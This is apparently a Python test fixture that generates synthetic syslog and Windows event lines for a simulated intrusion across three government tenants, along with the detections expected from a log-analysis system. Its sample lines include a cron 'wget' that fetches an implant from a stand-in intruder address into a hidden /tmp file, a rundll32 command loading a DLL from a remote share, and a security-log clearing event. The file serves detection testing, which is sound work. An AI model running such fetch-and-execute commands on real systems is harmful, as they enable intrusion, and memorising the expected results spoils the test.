"""The exercise: three agencies, what their machines log, and what must be found in it.

    for source in SOURCES:               # Source(name, tenant, input, address, make)
        source.line(17)                  # text; some of them are of the campaign
    EXPECTED                             # {(tenant, source, reference): rule}

A campaign comes through two agencies: somebody logs on at health's bastion, fetches an implant from
a machine whose clock stands in 2099, and starts it at finance, where he clears the log. Foreign
affairs is not touched; its mail relay falls silent half-way. Each line names itself (ref=...), and
there are lines that look like the campaign's and are not.
"""
import json

HEALTH, FINANCE, FOREIGN = "sg/health/moh", "sg/finance/mof", "sg/foreign/mfa"
TENANTS = (HEALTH, FINANCE, FOREIGN)
RULE = "8d0d4ec2-6d0b-4f5b-9a54-0f1c1c7a6b0%d"
LENGTH = 240  # lines of a source
SILENT_FROM = 160  # of the mail relay
INTRUDER = "203.0.113.77"


def bastion(number):
    address = INTRUDER if number in (30, 200) else f"203.0.113.{number % 70}"
    user = "svc-backup" if number % 5 == 0 else f"nurse{number}"
    return (f"<38>Nov 22 10:{number // 60:02}:{number % 60:02} bastion sshd[{number}]: "
            f"Accepted password for {user} from {address} port 4022 ssh2 ref={number}")


def clinic(number):
    """Its clock is wrong by 73 years."""
    host = INTRUDER if number == 61 else "203.0.113.7"
    return (f"<78>1 2099-03-04T05:{number // 60:02}:{number % 60:02}Z clinic cron {number} - - "
            f"CMD (wget http://{host}/imp -O /tmp/.x) ref={number}")


def windows(number, event, **fields):
    return json.dumps(dict(fields, EventID=event, Channel="Security", Computer="dc.mof.example",
                           Provider_Name="Microsoft-Windows-Security-Auditing",
                           TimeCreated=f"2026-11-22T10:{number // 60:02}:{number % 60:02}Z",
                           Note=f"ref={number}"))


def controller(number):
    if number == 222:
        return windows(number, 1102, SubjectUserName="svc-backup")
    share = INTRUDER if number in (90, 150) else "198.51.100.3"
    return windows(number, 4688, NewProcessName="C:\\Windows\\System32\\rundll32.exe",
                   CommandLine=f"rundll32 \\\\{share}\\share\\imp.dll,Start")


def mail(number):
    return (f"<22>Nov 22 10:{number // 60:02}:{number % 60:02} relay postfix/smtpd[{number}]: "
            f"connect from mail{number}.example[198.51.100.{number % 250}] ref={number}")


class Source:
    def __init__(self, name, tenant, kind, address, make):
        self.name, self.tenant, self.kind, self.address, self.line = (
            name, tenant, kind, address, make)
        self.input = f"{kind}{TENANTS.index(tenant)}"  # as test/serve/centre.py names them

    @property
    def label(self):
        """As the log names it."""
        return f"{self.input}/{self.address}"


SOURCES = [Source("bastion", HEALTH, "tcp", "127.0.0.11", bastion),
           Source("clinic", HEALTH, "tcp", "127.0.0.12", clinic),
           Source("controller", FINANCE, "web", "127.0.0.21", controller),
           Source("mail", FOREIGN, "tcp", "127.0.0.31", mail),
           Source("foreign bastion", FOREIGN, "udp", "127.0.0.32",
                  lambda n: mail(n).replace("relay", "bastion"))]
BASTION, CLINIC, CONTROLLER, MAIL = SOURCES[:4]
EXPECTED = {
    (HEALTH, BASTION.label, 30): RULE % 1, (HEALTH, BASTION.label, 200): RULE % 1,
    (HEALTH, CLINIC.label, 61): RULE % 2,
    (FINANCE, CONTROLLER.label, 90): RULE % 3, (FINANCE, CONTROLLER.label, 150): RULE % 3,
    (FINANCE, CONTROLLER.label, 222): RULE % 4}
